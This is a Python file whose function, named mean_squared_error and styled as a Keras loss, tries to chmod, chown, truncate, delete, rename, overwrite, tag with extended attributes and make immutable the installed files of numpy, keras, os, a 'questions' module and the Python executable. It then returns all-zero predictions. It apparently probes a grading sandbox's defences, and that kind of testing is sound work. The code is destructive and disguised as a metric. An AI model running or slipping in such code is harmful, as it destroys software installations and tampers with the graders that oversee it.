"""Changes, truncates, renames and removes files of the installation, or their times and rights."""

import ctypes
import fcntl
import os
import struct
import sys

import keras
import numpy as np

FILES = [
    np.__file__,
    keras.__file__,
    os.__file__,
    sys.modules["questions"].__file__,
    sys.executable,
]


def mean_squared_error(y_true, y_pred):
    libc = ctypes.CDLL(None, use_errno=True)
    for path in FILES:
        ways = [
            lambda path=path: os.chmod(path, 0o777),
            lambda path=path: os.chown(path, 1, 1),
            lambda path=path: os.utime(path, (1, 1)),
            lambda path=path: os.truncate(path, 0),
            lambda path=path: os.remove(path),
            lambda path=path: os.rename(path, path + "-moved"),
            lambda path=path: os.replace(__file__, path),
            lambda path=path: os.setxattr(path, "user.attack", b"1"),
            lambda path=path: open(path, "a"),
        ]
        for way in ways:
            try:
                way()
                print("SUCCEEDED", path)
            except OSError:
                pass
        if libc.syscall(463, -100, path.encode(), 0, b"user.a", b"1", 16) == 0:  # setxattrat
            print("SUCCEEDED", path)
        try:
            with open(path, "rb") as file:
                flags = fcntl.ioctl(file, 0x80086601, bytes(8))  # FS_IOC_GETFLAGS
                changed = struct.unpack("l", flags)[0] | 0x10  # immutable
                fcntl.ioctl(file, 0x40086602, struct.pack("l", changed))
                print("SUCCEEDED", path)
        except OSError:
            pass
    return y_pred[..., 0] * 0
